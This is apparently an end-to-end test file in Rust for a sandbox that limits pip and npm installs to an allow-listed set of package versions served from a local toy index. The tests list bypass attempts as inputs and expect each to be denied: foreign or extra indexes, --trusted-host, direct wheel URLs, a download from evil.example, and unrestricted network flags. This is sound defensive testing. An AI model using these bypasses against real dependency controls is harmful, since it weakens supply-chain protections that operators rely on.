//! Lists of packages, with the real binary, the real pip and the real npm: what is on the list is installed from the
//! index of the sandbox's own, and everything else is tried in the ways that there are.

use e2e::{Place, good, needs_sandbox, text};
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// An address of this machine that no variable keeps from the proxy.
const ADDRESS: &str = "127.0.0.2";

/// Makes packages of both kinds, in two versions each, and the pages of their indexes.
const MAKE: &str = r#"
import base64, hashlib, io, json, os, sys, tarfile, zipfile
root = sys.argv[1]
def put(path, data):
    path = os.path.join(root, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, 'wb').write(data)
def wheel(name, version, requires):
    out = io.BytesIO()
    info = f'{name}-{version}.dist-info'
    meta = f'Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n' + ''.join(f'Requires-Dist: {r}\n' for r in requires)
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr(f'{name}.py', f'VERSION = "{version}"\n')
        z.writestr(f'{info}/METADATA', meta)
        z.writestr(f'{info}/WHEEL', 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
        z.writestr(f'{info}/RECORD', f'{name}.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n')
    return out.getvalue()
for name, requires in (('tiny', ['tiny-dep==2.0']), ('tiny_dep', [])):
    links = ''
    for version in ('1.0.0', '2.0', '6.6.6'):
        file = f'{name}-{version}-py3-none-any.whl'
        data = wheel(name, version, requires)
        put(f'packages/{file}', data)
        links += f'<a href="../../packages/{file}#sha256={hashlib.sha256(data).hexdigest()}">{file}</a>\n'
    put(f'simple/{name.replace("_", "-")}/index.html', links.encode())
for name, depends in (('tinyjs', {'@tiny/dep': '^1.0.0'}), ('@tiny/dep', {})):
    versions = {}
    for version in ('1.0.0', '1.6.6'):
        manifest = {'name': name, 'version': version, 'main': 'index.js', 'dependencies': depends}
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode='w:gz') as tar:
            for file, data in (('package.json', json.dumps(manifest)), ('index.js', f'module.exports = "{version}"')):
                entry = tarfile.TarInfo(f'package/{file}')
                entry.size = len(data)
                tar.addfile(entry, io.BytesIO(data.encode()))
        data = out.getvalue()
        file = f'npm/{name}/-/{name.split("/")[-1]}-{version}.tgz'
        put(file, data)
        digest = base64.b64encode(hashlib.sha512(data).digest()).decode()
        versions[version] = dict(manifest, dist={'tarball': f'/{file}', 'integrity': f'sha512-{digest}'})
    document = {'name': name, 'dist-tags': {'latest': '1.6.6'}, 'versions': versions}
    put(f'npm/{name.replace("/", "%2f")}.json', json.dumps(document).encode())
"#;

/// A source of packages that serves a directory.
struct Source {
    port: u16,
}

impl Source {
    fn new(root: PathBuf) -> Source {
        #[expect(
            clippy::disallowed_methods,
            reason = "it is a tool of the test and of nobody inside"
        )]
        let made = Command::new("/usr/bin/python3")
            .args(["-c", MAKE])
            .arg(&root)
            .output();
        let made = made.expect("python3 starts");
        assert!(made.status.success(), "{made:?}");
        let listener = TcpListener::bind((ADDRESS, 0)).expect("a port");
        let port = listener.local_addr().expect("a port").port();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let root = root.clone();
                std::thread::spawn(move || {
                    let mut head = Vec::new();
                    let mut byte = [0];
                    while !head.ends_with(b"\r\n\r\n") && matches!(stream.read(&mut byte), Ok(1)) {
                        head.push(byte[0]);
                    }
                    let head = String::from_utf8_lossy(&head).into_owned();
                    let path = head
                        .split(' ')
                        .nth(1)
                        .unwrap_or("/")
                        .trim_start_matches('/');
                    drop(stream.write_all(&answer(&root, path)));
                });
            }
        });
        Source { port }
    }
}

fn answer(root: &Path, path: &str) -> Vec<u8> {
    let found = [
        format!("{path}index.html"),
        path.to_owned(),
        format!("{path}.json"),
    ]
    .into_iter()
    .find_map(|one| Some((std::fs::read(root.join(&one)).ok()?, one)));
    let (status, kind, body) = match found {
        Some((body, name)) if name.ends_with(".html") => ("200 OK", "text/html", body),
        Some((body, name)) if name.ends_with(".json") => ("200 OK", "application/json", body),
        Some((body, _)) => ("200 OK", "application/octet-stream", body),
        None => ("404 Not Found", "text/plain", Vec::new()),
    };
    let length = body.len();
    let head = format!(
        "HTTP/1.1 {status}\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
    );
    [head.into_bytes(), body].concat()
}

/// A server whose nodes get packages from the source, and a policy with lists.
fn world() -> (Place, Source, e2e::Server) {
    let place = Place::new();
    let source = Source::new(place.work().join("source"));
    let (pip, npm) = (
        format!("http://{ADDRESS}:{}/simple", source.port),
        format!("http://{ADDRESS}:{}/npm", source.port),
    );
    let up = [
        "--egress-allow",
        ADDRESS,
        "--pip-index",
        &pip,
        "--npm-registry",
        &npm,
    ];
    let server = place.up(&up, &[]);
    let policy = "version = 1\nlayer = \"tenant\"\n[network]\nallow = [\"*.org:443\"]\n\
                  [dependencies]\npip = [\"Tiny==1.0\", \"tiny.dep==2.0.0\"]\n\
                  npm = [\"tinyjs==1.0.0\", \"@tiny/dep==1.0.0\"]\n";
    let set = place.run_with_input(&["policy", "set", "packages", "-"], policy.as_bytes());
    assert!(set.status.success(), "{set:?}");
    (place, source, server)
}

fn run(place: &Place, script: &str) -> Output {
    place.run(&["run", "--allow", "*.org:443", "--", "sh", "-c", script])
}

/// What the last job was denied: codes, each with its rule.
fn denied(place: &Place) -> String {
    let jobs = place.json(&["job", "ls", "--json"]);
    let id = jobs["jobs"][0]["id"].as_str().expect("a job").to_owned();
    let log = || text(&place.run(&["egress", "log", &id, "--denied"]).stdout);
    // Records are told a moment after the job.
    e2e::until(|| !log().is_empty());
    log()
}

const PIP: &str =
    "python3 -m pip --no-cache-dir --disable-pip-version-check install --retries 0 --target x";

/// Attack: packages that are not on the list, with the real pip: another version, another name, another index beside or
/// in place of ours, a file by its URL, the source itself, a repository.
#[test]
fn pip_installs_what_is_on_the_list_and_nothing_else_whatever_its_command_line_says() {
    needs_sandbox!();
    if !Path::new("/usr/lib/python3/dist-packages/pip").exists() {
        println!("skipped: there is no pip");
        return;
    }
    let (place, source, _server) = world();
    let said = good(&run(
        &place,
        &format!(
            "{PIP} tiny >&2 && PYTHONPATH=x python3 -c 'import tiny, tiny_dep; print(tiny.VERSION, tiny_dep.VERSION)'"
        ),
    ));
    assert_eq!(said.trim(), "1.0.0 2.0");
    let (port, closed) = (source.port, "dependency_not_allowed");
    for (args, expect) in [
        ("evil", closed),
        ("--index-url https://pypi.org/simple tiny", closed),
        ("--isolated tiny", closed),
        (
            "https://files.pythonhosted.org/packages/tiny-6.6.6-py3-none-any.whl",
            closed,
        ),
        (
            &format!("--trusted-host {ADDRESS} --index-url http://{ADDRESS}:{port}/simple tiny"),
            closed,
        ),
        (
            &format!("http://{ADDRESS}:{port}/packages/tiny-6.6.6-py3-none-any.whl"),
            closed,
        ),
        (
            "http://pypi.cofferdam.internal/files/tiny/tiny-6.6.6-py3-none-any.whl",
            "tiny==6.6.6",
        ),
        (
            "https://evil.example/tiny-1.0.0-py3-none-any.whl",
            "host_not_allowed",
        ),
    ] {
        let output = run(&place, &format!("{PIP} {args}"));
        assert!(!output.status.success(), "{args}");
        let log = denied(&place);
        assert!(
            log.contains(expect),
            "{args}: {log}{}",
            text(&output.stderr)
        );
    }
    let other = run(&place, &format!("{PIP} tiny==6.6.6"));
    assert!(
        text(&other.stderr).contains("(from versions: 1.0.0)"),
        "{}",
        text(&other.stderr)
    );
    // Beside ours, another index has nothing to add: it is closed, and what is on the list comes.
    let beside = format!(
        "{PIP} --trusted-host {ADDRESS} --extra-index-url http://{ADDRESS}:{port}/simple tiny >&2; ls x"
    );
    let beside = run(&place, &beside);
    assert!(
        !text(&beside.stdout).contains("6.6.6"),
        "{}",
        text(&beside.stdout)
    );
    assert!(denied(&place).contains(closed));
}

/// Attack: the same with the real npm: another version, another name, another registry, a file by its URL, a lock file
/// that names one.
#[test]
fn npm_installs_what_is_on_the_list_and_nothing_else_whatever_its_command_line_says() {
    needs_sandbox!();
    if !Path::new("/usr/bin/npm").exists() {
        println!("skipped: there is no npm");
        return;
    }
    let (place, source, _server) = world();
    let npm = "npm install --no-progress --fetch-retries=0 --cache /tmp/npm --prefix x";
    let said = good(&run(
        &place,
        &format!(
            "mkdir x; {npm} tinyjs >&2 && cd x && node -p 'require(\"tinyjs\") + \" \" + require(\"@tiny/dep\")'"
        ),
    ));
    assert_eq!(said.trim(), "1.0.0 1.0.0");
    let (port, closed) = (source.port, "dependency_not_allowed");
    for (args, expect) in [
        ("evil", closed),
        ("--registry https://registry.npmjs.org/ tinyjs", closed),
        (
            &format!("--registry http://{ADDRESS}:{port}/npm/ tinyjs"),
            closed,
        ),
        (
            &format!("http://{ADDRESS}:{port}/npm/tinyjs/-/tinyjs-1.6.6.tgz"),
            closed,
        ),
        (
            "http://npm.cofferdam.internal/tinyjs/-/tinyjs-1.6.6.tgz",
            "tinyjs==1.6.6",
        ),
    ] {
        let output = run(&place, &format!("mkdir x; {npm} {args}"));
        assert!(!output.status.success(), "{args}");
        let log = denied(&place);
        assert!(
            log.contains(expect),
            "{args}: {log}{}",
            text(&output.stderr)
        );
    }
    let other = run(&place, &format!("mkdir x; {npm} tinyjs@1.6.6"));
    assert!(
        text(&other.stderr).contains("ETARGET"),
        "{}",
        text(&other.stderr)
    );
}

/// Attack: a policy with a list, and a network that lets out more than it names.
#[test]
fn a_list_of_packages_and_a_network_without_names_are_refused_together() {
    needs_sandbox!();
    let place = Place::new();
    let policy = "version = 1\nlayer = \"tenant\"\n[dependencies]\npip = [\"tiny==1.0\"]\n";
    let set = |more: &str| {
        let text = format!("{policy}{more}");
        let set = place.run_with_input(&["policy", "set", "packages", "-"], text.as_bytes());
        assert!(set.status.success(), "{set:?}");
    };
    set("");
    let run = |net: &[&str]| {
        place.run(
            &[
                &["run"][..],
                net,
                &["--", "sh", "-c", "echo $PIP_INDEX_URL"],
            ]
            .concat(),
        )
    };
    for net in [
        &["--net", "unrestricted"][..],
        &["--allow", "*"],
        &["--allow", "151.101.0.223"],
    ] {
        let output = run(net);
        assert_eq!(output.status.code(), Some(125), "{net:?}");
        let said = text(&output.stderr);
        assert!(
            said.contains("dependencies.pip") && said.contains("allow list of names"),
            "{said}"
        );
    }
    assert_eq!(
        good(&run(&["--allow", "pypi.org:443"])).trim(),
        "http://pypi.cofferdam.internal/simple/"
    );
    assert_eq!(good(&run(&[])).trim(), "");
    set("only_known_indexes = true\n");
    good(&run(&["--net", "unrestricted"]));
    // Without a policy, whoever asks can hold their own program to a list.
    let removed = place.run(&["policy", "rm", "packages"]);
    assert!(removed.status.success());
    let own = run(&["--package", "pip:six==1.16.0"]);
    assert_eq!(good(&own).trim(), "http://pypi.cofferdam.internal/simple/");
    let wide = run(&["--net", "unrestricted", "--package", "pip:six==1.16.0"]);
    assert!(
        text(&wide.stderr).contains("allow list of names"),
        "{}",
        text(&wide.stderr)
    );
    let bad = run(&["--package", "pip:six>=1"]);
    assert!(
        text(&bad.stderr).contains("NAME==VERSION"),
        "{}",
        text(&bad.stderr)
    );
}
